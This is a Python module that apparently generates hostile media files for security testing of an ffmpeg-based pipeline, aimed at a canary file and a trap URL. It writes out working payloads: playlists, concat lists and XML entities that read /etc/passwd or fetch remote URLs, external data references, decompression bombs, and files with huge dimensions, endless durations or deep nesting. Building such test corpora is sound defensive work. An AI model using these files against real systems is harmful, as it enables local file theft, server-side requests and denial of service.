"""Hostile files, built by ffmpeg where it can, else byte by byte."""

import gzip
import io
import random
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import NamedTuple

from local.place import TOOLS

FFMPEG = TOOLS / "bin" / "ffmpeg"
SMALL = ("-f", "lavfi", "-i", "testsrc2=size=160x90:rate=25:duration=1")
SOUND = ("-f", "lavfi", "-i", "sine=duration=1")
H264 = ("-c:v", "libx264", "-preset", "ultrafast")


class Traps(NamedTuple):
    """The targets of hostile files: a file that must not be read, and a URL that must not be requested."""

    canary: Path
    url: str


class Maker:
    """Builds clips with ffmpeg, each once."""

    def __init__(self, folder: Path) -> None:
        self._folder = folder

    def __call__(self, name: str, *arguments: str) -> bytes:
        """The content of a clip. The name selects the container, and caches the clip."""
        path = self._folder / name
        if not path.exists():
            subprocess.run([FFMPEG, "-v", "error", "-y", *arguments, f"file:{path}"], check=True)
        return path.read_bytes()

    def mp4(self) -> bytes:
        """A small film with audio, its index at the end."""
        return self("small.mp4", *SMALL, *SOUND, "-shortest", *H264)


# Boxes of mov and mp4

_NESTS = {b"moov", b"trak", b"mdia", b"minf", b"dinf", b"stbl", b"edts", b"udta"}


def box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), kind) + content


def boxes(data: bytes) -> Iterator[tuple[bytes, bytes]]:
    while data:
        size, kind = struct.unpack_from(">I4s", data)
        yield kind, data[8:size]
        data = data[size:]


def changed(data: bytes, kind: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """A film in which `change` replaces the content of every box of a kind, at any depth."""
    result = b""
    for name, content in boxes(data):
        inner = changed(content, kind, change) if name in _NESTS else content
        result += box(name, change(inner) if name == kind else inner)
    return result


def patched(at: int, value: bytes) -> Callable[[bytes], bytes]:
    return lambda content: content[:at] + value + content[at + len(value) :]


def _replaced(content: bytes, _: bytes) -> bytes:
    return content


def external(entry: bytes) -> Callable[[bytes], bytes]:
    """A data reference out of the file: flag 1 of its entry, which means `this file`, is not set."""
    return lambda _: struct.pack(">II", 0, 1) + entry


def url_entry(url: str) -> bytes:
    return box(b"url ", struct.pack(">I", 0) + url.encode() + b"\0")


def alias_entry(path: Path) -> bytes:
    """A Macintosh alias, as QuickTime wrote it: volume and file, then the full path as tags of type 2 and 18."""
    name = path.name.encode()[:63]
    head = struct.pack(">4sHHH", b"\0\0\0\0", 0, 2, 0) + bytes([4]) + b"disk".ljust(27, b"\0") + b"\0" * 12
    head += bytes([len(name)]) + name.ljust(63, b"\0") + b"\0" * 16 + struct.pack(">hh", 1, 1) + b"\0" * 16
    whole = str(path).encode()
    tags = b"".join(
        struct.pack(">HH", kind, len(whole)) + whole + b"\0" * (len(whole) % 2) for kind in (2, 18)
    ) + struct.pack(">HH", 0xFFFF, 0)
    return box(b"alis", struct.pack(">I", 0) + head + tags)


# Elements of Matroska


def element(number: int, content: bytes) -> bytes:
    name = number.to_bytes((number.bit_length() + 7) // 8, "big")
    return name + (len(content) | 1 << 56).to_bytes(8, "big") + content


def uint(number: int, value: int) -> bytes:
    return element(number, value.to_bytes(8, "big"))


def matroska(compression: bytes, block: bytes, *, width: int = 160, height: int = 90, duration: bytes = b"") -> bytes:
    """A Matroska file with one track of uncompressed video, and the given compression header and block."""
    head = uint(0x4286, 1) + uint(0x42F7, 1) + uint(0x42F2, 4) + uint(0x42F3, 8)
    head += element(0x4282, b"matroska") + uint(0x4287, 4) + uint(0x4285, 2)
    info = uint(0x2AD7B1, 1_000_000) + (element(0x4489, duration) if duration else b"")
    picture = uint(0xB0, width) + uint(0xBA, height) + element(0x2EB524, b"I420")
    encodings = element(0x6D80, element(0x6240, element(0x5034, compression))) if compression else b""
    track = uint(0xD7, 1) + uint(0x73C5, 1) + uint(0x83, 1) + element(0x86, b"V_UNCOMPRESSED")
    track += element(0xE0, picture) + encodings
    cluster = uint(0xE7, 0) + element(0xA3, b"\x81\0\0\x80" + block) + element(0xA3, b"\x81\0\x28\x80" + block)
    segment = element(0x1549A966, info) + element(0x1654AE6B, element(0xAE, track)) + element(0x1F43B675, cluster)
    return element(0x1A45DFA3, head) + element(0x18538067, segment)


def deflated_zeros(size: int) -> bytes:
    """`size` zero bytes, deflated."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()


def avi_with_playlist(playlist: bytes) -> bytes:
    """An AVI with a playlist as its subtitles: subtitles in AVI are an embedded file of any type."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return kind + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)

    def many(kind: bytes, content: bytes) -> bytes:
        return chunk(b"LIST", kind + content)

    main = struct.pack("<14I", 40000, 0, 0, 0x10, 2, 0, 2, 0, 160, 90, 0, 0, 0, 0)
    picture = struct.pack("<4s4sIHHIIIIIIII4H", b"vids", b"\0\0\0\0", 0, 0, 0, 0, 1, 25, 0, 2, 0, 0, 0, 0, 0, 160, 90)
    bitmap = struct.pack("<IIIHH4sIIIII", 40, 160, 90, 1, 24, b"\0\0\0\0", 43200, 0, 0, 0, 0)
    text = struct.pack("<4s4sIHHIIIIIIII4H", b"txts", b"\0\0\0\0", 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, 0, 0)
    name = "x.m3u8\0".encode("utf-16-le")
    inner = b"GAB2\0" + struct.pack("<HI", 2, len(name)) + name + struct.pack("<HI", 4, len(playlist)) + playlist
    header = chunk(b"avih", main) + many(b"strl", chunk(b"strh", picture) + chunk(b"strf", bitmap))
    header += many(b"strl", chunk(b"strh", text))
    movie = chunk(b"00db", bytes(43200)) + chunk(b"01tx", inner) + chunk(b"00db", bytes(43200))
    return chunk(b"RIFF", b"AVI " + many(b"hdrl", header) + many(b"movi", movie))


def playlists(traps: Traps) -> dict[str, bytes]:
    """Text files that make a player open other files or URLs."""
    file, url = f"file://{traps.canary}", traps.url
    hls = f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{url}/a.ts\n#EXTINF:10,\n{file}\n#EXTINF:9,\nfile:///etc/passwd\n"
    master = f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}/b.m3u8\n"
    joined = f"#EXTM3U\n#EXTINF:10,\nconcat:{url}/c|{file}\n#EXT-X-ENDLIST\n"
    keyed = f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXT-X-MAP:URI="{file}"\n#EXTINF:1,\n{url}/d.mp4\n'
    dash = (
        f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" mediaPresentationDuration="PT9S">'
        f'<BaseURL>{url}/</BaseURL><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">'
        f"<BaseURL>{file}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )
    host, port = url.removeprefix("http://").split(":")
    sdp = (
        f"v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    )
    rtsp = f"rtsp://{host}:{port}/x\n"
    xml = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]><smil><video src="{url}"/>&e;</smil>'
    return {
        "hls.mp4": hls.encode(),
        "hls.ts": hls.encode(),
        "master.mkv": master.encode(),
        "joined.mov": joined.encode(),
        "keyed.mp4": keyed.encode(),
        "dash.mp4": dash.encode(),
        "concat.mov": f"ffconcat version 1.0\nfile '{traps.canary}'\nfile '{url}/x.mp4'\n".encode(),
        "concat.mp4": f"file {traps.canary}\nfile /etc/passwd\n".encode(),
        "sdp.mp4": sdp.encode(),
        "rtsp.mp4": rtsp.encode(),
        "rtsptext.mov": b"RTSPtext\n" + rtsp.encode(),
        "pls.mkv": f"[playlist]\nFile1={url}/x.mp4\nNumberOfEntries=1\n".encode(),
        "asx.mp4": f'<asx version="3.0"><entry><ref href="{url}/x.asf"/></entry></asx>'.encode(),
        "smil.mp4": xml.encode(),
        "svg.mp4": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/x.png"/></svg>'.encode(),
        "subtitles.mp4": b"1\n00:00:00,000 --> 00:00:09,000\n<img src='file:///etc/passwd'>\n",
        "gab2.avi": avi_with_playlist(hls.encode()),
        "behind-a-start-code.ts": b"\x47\x40\x11\x10" + b"\xff" * 184 + hls.encode() * 40,
    }


def references(make: Maker, traps: Traps) -> dict[str, bytes]:
    """Films that refer to another file for their media data."""
    mp4 = make.mp4()
    moved = {
        "url-file.mov": url_entry(f"file://{traps.canary}"),
        "url-http.mp4": url_entry(f"{traps.url}/x.mp4"),
        "url-relative.mp4": url_entry("../outside/canary.mp4"),
        "alias.mov": alias_entry(traps.canary),
    }
    return {name: changed(mp4, b"dref", external(entry)) for name, entry in moved.items()}


def huge(make: Maker) -> dict[str, bytes]:
    """Small files that declare or contain huge pictures."""
    raw = make("raw.mov", *SMALL, "-frames:v", "2", "-c:v", "rawvideo", "-pix_fmt", "uyvy422")
    sixty = struct.pack(">HH", 60000, 60000)
    vp8 = make("small.webm", *SMALL, "-c:v", "libvpx", "-b:v", "50k")
    flat = ("-f", "lavfi", "-i", "color=black:size=8000x8000:rate=25", "-frames:v", "2")
    large = make("large.ts", *flat, *H264)
    return {
        "stsd.mov": changed(raw, b"stsd", patched(8 + 8 + 8 + 16, sixty)),
        "vp8.webm": vp8.replace(b"\x9d\x01\x2a\xa0\0\x5a\0", b"\x9d\x01\x2a\xff\x3f\xff\x3f"),
        "tall.mkv": matroska(b"", bytes(21600), width=1, height=2**31 - 1),
        "square.mkv": matroska(b"", bytes(21600), width=65535, height=65535),
        "png.mov": make("png.mov", *flat, "-c:v", "png"),
        "mjpeg.avi": make("mjpeg.avi", *flat, "-c:v", "mjpeg"),
        "h264.ts": large,
        "ffv1.mkv": make("ffv1.mkv", *flat, "-c:v", "ffv1"),
    }


def grows(make: Maker) -> bytes:
    """A film whose pictures become huge after the first seconds."""
    small = make("small.ts", *SMALL, *H264)
    return small * 4 + huge(make)["h264.ts"]


def undecodable(make: Maker) -> dict[str, bytes]:
    """Films whose codec is unknown to ffmpeg, or known without a decoder."""
    film = make.mp4()
    return {
        "xxxx.mp4": changed(film, b"stsd", lambda stsd: stsd.replace(b"avc1", b"xxxx")),
        "evc1.mp4": changed(film, b"stsd", lambda stsd: stsd.replace(b"avc1", b"evc1")),
        "unknown.mkv": matroska(b"", bytes(21600)).replace(b"V_UNCOMPRESSED", b"V_NOTHING_HERE"),
    }


def endless(make: Maker) -> dict[str, bytes]:
    """Films that declare a duration of years."""
    mp4 = make.mp4()
    most = struct.pack(">I", 0x7FFFFFFF)
    slow = changed(mp4, b"stts", lambda stts: stts[:12] + most + stts[16:])
    slow = changed(changed(slow, b"mdhd", patched(16, most)), b"mvhd", patched(16, most))
    avi = make("small.avi", *SMALL, "-c:v", "mpeg4")
    at = avi.index(b"strh") + 8 + 32
    return {
        "stts.mp4": slow,
        "double.mkv": matroska(b"", bytes(21600), duration=struct.pack(">d", 1e15)),
        "length.avi": avi[:at] + b"\xff\xff\xff\x7f" + avi[at + 4 :],
    }


def many_samples(make: Maker, count: int) -> bytes:
    """A film of `count` frames of one byte and one millisecond each."""
    film = make("silent.mp4", *SMALL, *H264)
    tables = {
        b"stsc": struct.pack(">5I", 0, 1, 1, count, 1),
        b"stsz": struct.pack(">3I", 0, 1, count),
        b"stts": struct.pack(">4I", 0, 1, count, 1),
    }
    for kind, content in tables.items():
        film = changed(film, kind, partial(_replaced, content))
    for kind in (b"ctts", b"stss", b"elst"):
        film = film.replace(kind, b"free")
    film = changed(film, b"mdhd", patched(12, struct.pack(">II", 1000, count)))
    film = changed(film, b"stco", lambda _: struct.pack(">3I", 0, 1, len(film) + 8))
    return film + box(b"free", bytes(count))


def bombs() -> dict[str, bytes]:
    """Small files that decompress to a large size."""
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("film.mp4", bytes(100 << 20))
    moov = struct.pack(">4s", b"zlib"), struct.pack(">I", 0x7FFFFFF0) + deflated_zeros(64 << 20)
    return {
        "zip.mp4": zipped.getvalue(),
        "gzip.mp4": gzip.compress(bytes(100 << 20)),
        "gzip.mkv": gzip.compress(gzip.compress(bytes(100 << 20))),
        "cmov.mov": box(b"ftyp", b"qt  \0\0\0\0qt  ")
        + box(b"moov", box(b"cmov", box(b"dcom", moov[0]) + box(b"cmvd", moov[1]))),
    }


def compressed_tracks() -> dict[str, bytes]:
    """Matroska files whose blocks expand: deflated, and with a long prefix stripped."""
    return {
        "zlib.mkv": matroska(uint(0x4254, 0), deflated_zeros(1 << 30)),
        "header.mkv": matroska(uint(0x4254, 3) + element(0x4255, bytes(8 << 20)), bytes(100)),
    }


def many_streams(make: Maker) -> dict[str, bytes]:
    """Films with 300 video streams."""
    make.mp4()
    source = ("-f", "lavfi", "-i", "color=black:size=32x32:rate=5:duration=1")
    many = [word for _ in range(300) for word in ("-map", "0:v")]
    return {f"many.{kind}": make(f"many.{kind}", *source, *many, "-c:v", "mpeg4") for kind in ("mkv", "mov", "ts")}


def broken(make: Maker) -> dict[str, bytes]:
    """Files with malformed containers."""
    ftyp = box(b"ftyp", b"isom\0\0\0\0isom")
    nested = b""
    for _ in range(20_000):
        nested = struct.pack(">I4s", (8 + len(nested)) & 0xFFFFFFFF, b"moov") + nested
    return {
        "empty-moov.mp4": ftyp + box(b"moov", b""),
        "nested.mp4": ftyp + nested,
        "large-size.mp4": ftyp + struct.pack(">I4sQ", 1, b"moov", 2**63 - 1),
        "no-samples.mp4": changed(make.mp4(), b"stsz", patched(8, struct.pack(">I", 0xFFFFFFFF))),
        "zeros.mp4": bytes(1 << 20),
        "sync.ts": b"\x47" * (188 * 1000),
    }


def pictures(make: Maker) -> dict[str, bytes]:
    """Pictures and audio files."""
    one = (*SMALL, "-frames:v", "1")
    return {
        "png.mp4": make("one.png", *one),
        "jpeg.mkv": make("one.jpg", *one),
        "gif.mp4": make("one.gif", *SMALL),
        "bmp.ts": make("one.bmp", *one),
        "mp3.mp4": make("one.mp3", *SOUND, "-c:a", "libmp3lame"),
        "wav.mov": make("one.wav", *SOUND),
    }


def damaged(make: Maker, seed: int, count: int) -> dict[str, bytes]:
    """Real clips that are cut short or have flipped bits."""
    rng = random.Random(seed)
    kinds = {
        "mp4": make.mp4(),
        "mkv": make("small.mkv", *SMALL, *SOUND, "-shortest", *H264),
        "ts": make("small-sound.ts", *SMALL, *SOUND, "-shortest", *H264),
        "webm": make("small.webm", *SMALL, "-c:v", "libvpx", "-b:v", "50k"),
    }
    files = {}
    for number in range(count):
        kind = rng.choice(sorted(kinds))
        data = bytearray(kinds[kind])
        if number % 2:
            del data[rng.randrange(1, len(data)) :]
            files[f"cut-{number}.{kind}"] = bytes(data)
            continue
        for _ in range(2 ** rng.randrange(9)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        files[f"flipped-{number}.{kind}"] = bytes(data)
    return files
